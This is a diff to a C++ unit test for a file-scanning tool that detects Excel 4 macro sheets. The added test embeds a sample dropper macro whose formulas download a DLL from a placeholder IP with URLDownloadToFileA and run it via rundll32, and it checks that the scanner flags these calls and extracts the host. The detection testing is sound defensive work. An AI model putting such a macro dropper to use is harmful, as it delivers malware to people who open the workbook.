@@ -220,6 +220,21 @@ TEST(OoxmlTest, ExcelDdeLinkAndMacroSheets) {
   const auto macro = context.run("ooxml", sheet);
   ASSERT_EQ(macro.size(), 1u);
   EXPECT_EQ(macro[0].id, "EXCEL4_MACRO_SHEET");
+  EXPECT_EQ(evidence(macro[0], "calls"), "<no calls>");  // an empty sheet calls nothing
+
+  // The formulas of a dropper: what they call is named, and the download address joins the links.
+  const Object& dropper = context.add(
+      ObjectOrigin::kArchiveMember, "xl/macrosheets/sheet2.xml",
+      "<xm:macrosheet><sheetData><row r=\"1\"><c r=\"A1\"><f>CALL(&quot;urlmon&quot;,&quot;URLDownloadToFileA&quot;,"
+      "&quot;JJCCJJ&quot;,0,&quot;http://203.0.113.50/p.dll&quot;,&quot;c:\\users\\public\\p.dll&quot;,0,0)</f></c></row>"
+      "<row r=\"2\"><c r=\"A2\"><f>EXEC(&quot;rundll32.exe c:\\users\\public\\p.dll,DllRegisterServer&quot;)</f></c></row>"
+      "<row r=\"3\"><c r=\"A3\"><f>HALT()</f></c></row></sheetData></xm:macrosheet>");
+  const auto drop = context.run("ooxml", dropper);
+  ASSERT_EQ(drop.size(), 1u);
+  EXPECT_EQ(evidence(drop[0], "calls"), "EXEC, CALL, URLDOWNLOADTOFILE");
+  EXPECT_EQ(evidence(drop[0], "formula").substr(0, 16), "CALL(\"urlmon\",\"U");
+  ASSERT_FALSE(context.urls.empty());
+  EXPECT_EQ(context.urls.back().host_ascii(), "203.0.113.50");
 
   const Object& workbook = context.add(
       ObjectOrigin::kArchiveMember, "xl/workbook.xml",
